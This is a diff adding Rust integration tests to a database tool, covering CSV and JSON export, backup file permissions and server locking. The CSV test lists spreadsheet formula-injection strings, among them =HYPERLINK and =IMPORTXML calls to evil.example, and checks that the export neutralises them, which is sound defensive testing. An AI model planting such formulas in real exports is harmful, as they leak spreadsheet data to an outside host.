@@ -574,7 +574,7 @@ async fn export_then_import_into_a_new_database_exports_the_identical_document()
             "{table} is exported"
         );
     }
-    for skipped in ["sessions", "login_failures", "_sqlx_migrations"] {
+    for skipped in ["sessions", "login_throttle", "_sqlx_migrations"] {
         assert!(!tables.contains_key(skipped), "{skipped} is not exported");
     }
     assert!(
@@ -810,13 +810,14 @@ async fn get_bytes(
     (status, headers, bytes)
 }
 
+/// Staged download copies of this test process left in the folder of the test databases.
 fn leftover_downloads() -> usize {
-    let prefix = format!("lockpoint-download-{}-", std::process::id());
+    let marker = format!(".download-{}-", std::process::id());
     std::fs::read_dir(std::env::temp_dir())
         .unwrap()
         .filter(|e| {
             e.as_ref()
-                .is_ok_and(|e| e.file_name().to_string_lossy().starts_with(&prefix))
+                .is_ok_and(|e| e.file_name().to_string_lossy().contains(&marker))
         })
         .count()
 }
@@ -884,4 +885,241 @@ async fn an_admin_downloads_a_checked_backup_and_the_export_and_a_tech_is_refuse
         app.get("/backup/download", None).await.status,
         StatusCode::SEE_OTHER
     );
+}
+
+#[tokio::test]
+async fn csv_export_defuses_text_a_spreadsheet_would_run_and_json_keeps_it_exact() {
+    let scratch = Scratch::new();
+    let shop = scratch.path("shop.db");
+    let pool = db::open(&shop).await.unwrap();
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&C3,\"x\")",
+        "=IMPORTXML(\"http://evil.example\",\"//a\")",
+        "+1+cmd",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+        "\rReturn",
+    ];
+    for name in hostile {
+        add_customer(&pool, name, "").await;
+    }
+    add_customer(&pool, "Plain = name", "a - b").await;
+    pool.close().await;
+
+    let out = lockpoint(&["export", text(&scratch.path("out")), "--db", text(&shop)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let csv = std::fs::read_to_string(scratch.path("out").join("customers.csv")).unwrap();
+    let records = parse_csv(&csv);
+    let name = records[0].iter().position(|h| h == "name").unwrap();
+    let names: Vec<&str> = records[1..].iter().map(|r| r[name].as_str()).collect();
+    let expected: Vec<String> = hostile
+        .iter()
+        .map(|h| format!("'{h}"))
+        .chain(["Plain = name".to_string()])
+        .collect();
+    assert_eq!(names, expected);
+    let id = records[0].iter().position(|h| h == "id").unwrap();
+    assert_eq!(records[1][id], "1", "numbers are not prefixed");
+
+    let json: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(scratch.path("out").join(export::JSON_FILE)).unwrap(),
+    )
+    .unwrap();
+    let exported: Vec<&str> = json["tables"]["customers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|row| row["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        exported[..hostile.len()],
+        hostile,
+        "the JSON keeps every text as it is"
+    );
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn backups_and_exports_are_readable_by_their_owner_only() {
+    let scratch = Scratch::new();
+    let shop = scratch.path("shop.db");
+    let pool = db::open(&shop).await.unwrap();
+    add_customer(&pool, "Harlan Voss", "").await;
+    pool.close().await;
+
+    let copy = scratch.path("copy.db");
+    let out = lockpoint(&["backup", text(&copy), "--db", text(&shop)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(mode(&copy), 0o600, "the backup");
+
+    let dir = scratch.path("export");
+    let out = lockpoint(&["export", text(&dir), "--db", text(&shop)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(mode(&dir), 0o700, "the export folder");
+    let files: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    assert!(files.len() > 5, "{files:?}");
+    for file in files {
+        assert_eq!(mode(&file), 0o600, "{}", file.display());
+    }
+
+    // The copy a restore keeps of the database it replaces holds the same secrets.
+    let out = lockpoint(&["restore", text(&copy), "--db", text(&shop)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let kept: Vec<String> = scratch
+        .names()
+        .into_iter()
+        .filter(|n| n.starts_with("shop.db.before-restore-"))
+        .collect();
+    assert_eq!(kept.len(), 1, "{:?}", scratch.names());
+    assert_eq!(mode(&scratch.path(&kept[0])), 0o600);
+}
+
+/// One HTTP/1.1 exchange on its own connection; the answer's head and body.
+fn http(addr: &str, request: &str) -> (String, Vec<u8>) {
+    let mut stream = std::net::TcpStream::connect(addr).unwrap();
+    stream.write_all(request.as_bytes()).unwrap();
+    let mut raw = Vec::new();
+    stream.read_to_end(&mut raw).unwrap();
+    let split = raw
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .expect("a complete head");
+    (
+        String::from_utf8_lossy(&raw[..split]).into_owned(),
+        raw[split + 4..].to_vec(),
+    )
+}
+
+#[test]
+fn the_backup_download_is_staged_beside_the_database_not_in_the_system_temp_folder() {
+    let scratch = Scratch::new();
+    let shop = scratch.path("shop.db");
+    let mut add = Command::new(env!("CARGO_BIN_EXE_lockpoint"))
+        .args([
+            "user",
+            "add",
+            "boss",
+            "--role",
+            "admin",
+            "--db",
+            text(&shop),
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    add.stdin
+        .take()
+        .unwrap()
+        .write_all(b"download test password\n")
+        .unwrap();
+    assert!(add.wait().unwrap().success());
+
+    // A system temp folder nobody can write to: the download must not need it.
+    let mut child = Command::new(env!("CARGO_BIN_EXE_lockpoint"))
+        .args(["serve", "--db", text(&shop), "--addr", "127.0.0.1:0"])
+        .env("TMPDIR", scratch.path("no-such-folder"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let stdout = child.stdout.take().unwrap();
+    let server = Server(Some(child));
+    let mut line = String::new();
+    BufReader::new(stdout).read_line(&mut line).unwrap();
+    let addr = line
+        .trim()
+        .strip_prefix("listening on http://")
+        .unwrap_or_else(|| panic!("{line}"))
+        .to_string();
+
+    let body = "username=boss&password=download+test+password&next=%2F";
+    let (head, _) = http(
+        &addr,
+        &format!(
+            "POST /login HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
+             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        ),
+    );
+    assert!(head.starts_with("HTTP/1.1 303"), "{head}");
+    let cookie = head
+        .lines()
+        .find_map(|l| l.strip_prefix("set-cookie: "))
+        .and_then(|c| c.split(';').next())
+        .unwrap_or_else(|| panic!("{head}"))
+        .to_string();
+    let (head, bytes) = http(
+        &addr,
+        &format!(
+            "GET /backup/download HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: {cookie}\r\n\r\n"
+        ),
+    );
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    assert!(bytes.starts_with(b"SQLite format 3\0"));
+    assert!(
+        !scratch.names().iter().any(|n| n.contains(".download")),
+        "the staged copy is removed: {:?}",
+        scratch.names()
+    );
+    stop_server(server);
+}
+
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_server_started_through_a_symlink_still_blocks_restore_and_import() {
+    let scratch = Scratch::new();
+    let real = scratch.path("shop.db");
+    let pool = db::open(&real).await.unwrap();
+    add_customer(&pool, "Harlan Voss", "").await;
+    pool.close().await;
+    let saved = scratch.path("saved.db");
+    let out = lockpoint(&["backup", text(&saved), "--db", text(&real)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let export_dir = scratch.path("export");
+    let out = lockpoint(&["export", text(&export_dir), "--db", text(&real)]);
+    assert!(out.status.success(), "{}", stderr(&out));
+
+    // The server is given a symlink, the restore the file's own name (and another spelling).
+    std::os::unix::fs::symlink(&real, scratch.path("link.db")).unwrap();
+    let server = start_server(&scratch.path("link.db"));
+    for path in [real.clone(), scratch.dir.join(".").join("shop.db")] {
+        let out = lockpoint(&["restore", text(&saved), "--db", text(&path)]);
+        assert!(!out.status.success(), "restore through {}", path.display());
+        assert!(
+            stderr(&out).contains("server is running"),
+            "{}",
+            stderr(&out)
+        );
+    }
+    let out = lockpoint(&[
+        "import",
+        text(&export_dir.join(export::JSON_FILE)),
+        "--db",
+        text(&real),
+    ]);
+    assert!(!out.status.success(), "import beside a running server");
+    assert!(stderr(&out).contains("server"), "{}", stderr(&out));
+    assert!(
+        serve_expecting_refusal(&real).status.code() != Some(0),
+        "a second server on the same file"
+    );
+    // One-shot commands still work beside the server.
+    let out = lockpoint(&["token", "revoke", "--user", "nobody", "--db", text(&real)]);
+    assert!(stderr(&out).contains("no user named"), "{}", stderr(&out));
+    stop_server(server);
+
+    let out = lockpoint(&["restore", text(&saved), "--db", text(&real)]);
+    assert!(out.status.success(), "{}", stderr(&out));
 }
